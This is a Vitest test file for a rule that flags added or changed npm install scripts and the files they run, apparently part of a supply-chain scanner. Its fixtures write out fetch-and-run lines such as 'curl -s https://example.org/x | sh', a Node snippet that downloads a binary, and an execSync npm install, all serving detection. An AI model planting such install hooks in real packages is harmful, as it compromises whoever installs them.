// install-script: a script line added or changed, and a line that stays the same while the file it
// runs does not.
import { describe } from 'vitest';
import installScript from '../../../../src/classify/manifest/rules/install-script.js';
import { ruleTester } from '../../../helpers/rule-tester.js';

const base = { name: 'demo', version: '1.0.0' };
const pkg = { name: 'demo', version: '1.0.0', scripts: { postinstall: 'node install.js' } };
const QUIET = 'console.log("thanks for installing")';
const DOWNLOADS = 'var https=require("https"),fs=require("fs");https.get("https://example.org/bin",function(r){r.pipe(fs.createWriteStream("bin"))})';

describe('install-script', () => {
  ruleTester(installScript, {
    valid: [
      { name: 'unchanged postinstall', before: { ...base, scripts: { postinstall: 'node a.js' } }, after: { ...base, scripts: { postinstall: 'node a.js' } } },
      { name: 'non-install script added', before: base, after: { ...base, scripts: { test: 'vitest', build: 'tsc' } } },
      { name: 'install script removed', before: { ...base, scripts: { preinstall: 'x' } }, after: base },
    ],
    invalid: [
      {
        name: 'postinstall added',
        before: base,
        after: { ...base, scripts: { postinstall: 'node scripts/setup.js' } },
        findings: [{ severity: 'high', message: 'install script "postinstall" added', evidence: '"postinstall": "node scripts/setup.js"', line: 4 }],
      },
      {
        name: 'preinstall changed: the old one is removed, the new one introduced',
        before: { ...base, scripts: { preinstall: 'node a.js' } },
        after: { ...base, scripts: { preinstall: 'curl x | sh' } },
        findings: [{ message: 'install script "preinstall" changed; it makes network requests', evidence: '"preinstall": "node a.js" → "curl x | sh"' }],
        removed: 1,
      },
    ],
  });
});

describe('install-script (the files a script line runs)', () => {
  ruleTester(installScript, {
    valid: [
      { name: 'line and file unchanged', before: pkg, after: pkg, beforeFiles: { 'install.js': QUIET, 'index.js': 'a' }, afterFiles: { 'install.js': QUIET, 'index.js': 'b' } },
      {
        name: 'a prepare build step whose output changed (prepare does not run for registry installs)',
        before: { ...pkg, scripts: { prepare: 'esbuild src/index.js --outfile=dist/index.js' } },
        after: { ...pkg, scripts: { prepare: 'esbuild src/index.js --outfile=dist/index.js' } },
        beforeFiles: { 'dist/index.js': 'a', 'src/index.js': 'a' },
        afterFiles: { 'dist/index.js': 'b', 'src/index.js': 'b' },
      },
      {
        name: "only a shebang, comments and 'use strict' added",
        before: pkg,
        after: pkg,
        beforeFiles: { 'install.js': QUIET },
        afterFiles: { 'install.js': `#!/usr/bin/env node\n'use strict';\n/* banner */\n${QUIET} // done` },
      },
      {
        name: 'the script line re-spaced',
        before: { ...pkg, scripts: { postinstall: 'node -e "require(\'./x\')"' } },
        after: { ...pkg, scripts: { postinstall: ' node  -e "require(\'./x\')"' } },
      },
      { name: 'a file the line does not name', before: pkg, after: pkg, beforeFiles: { 'install.js': QUIET, 'other.js': 'a' }, afterFiles: { 'install.js': QUIET, 'other.js': DOWNLOADS } },
    ],
    invalid: [
      {
        name: 'the file now downloads',
        before: pkg,
        after: pkg,
        beforeFiles: { 'install.js': QUIET },
        afterFiles: { 'install.js': DOWNLOADS },
        findings: [{ severity: 'high', message: 'install script "postinstall" runs install.js, which was changed; it now makes network requests, downloads files' }],
      },
      {
        name: 'the file changed without new abilities',
        before: pkg,
        after: pkg,
        beforeFiles: { 'install.js': QUIET },
        afterFiles: { 'install.js': 'console.log("thanks! star us on GitHub")' },
        findings: [{ severity: 'low', message: 'install script "postinstall" runs install.js, which was changed' }],
      },
      {
        name: 'node -e requiring a file, which now runs npm install',
        before: { ...pkg, scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
        after: { ...pkg, scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
        beforeFiles: { 'postinstall.js': QUIET },
        afterFiles: { 'postinstall.js': 'require("child_process").execSync("npm install --no-save helper-linux-x64")' },
        findings: [{ severity: 'high', message: 'install script "postinstall" runs postinstall.js, which was changed; it now runs commands, installs packages (npm install)' }],
      },
      {
        name: 'a shell script that changed (not read, but its hash is)',
        before: { ...pkg, scripts: { install: 'sh ./setup.sh' } },
        after: { ...pkg, scripts: { install: 'sh ./setup.sh' } },
        beforeFiles: { 'setup.sh': 'echo hi' },
        afterFiles: { 'setup.sh': 'curl -s https://example.org/x | sh' },
        findings: [{ severity: 'medium', message: 'install script "install" runs setup.sh, which was changed' }],
      },
      {
        name: 'a script added: what it runs is said',
        before: { name: 'demo', version: '1.0.0' },
        after: pkg,
        beforeFiles: {},
        afterFiles: { 'install.js': DOWNLOADS },
        findings: [{ severity: 'high', message: 'install script "postinstall" added; it makes network requests, downloads files' }],
      },
    ],
  });
});
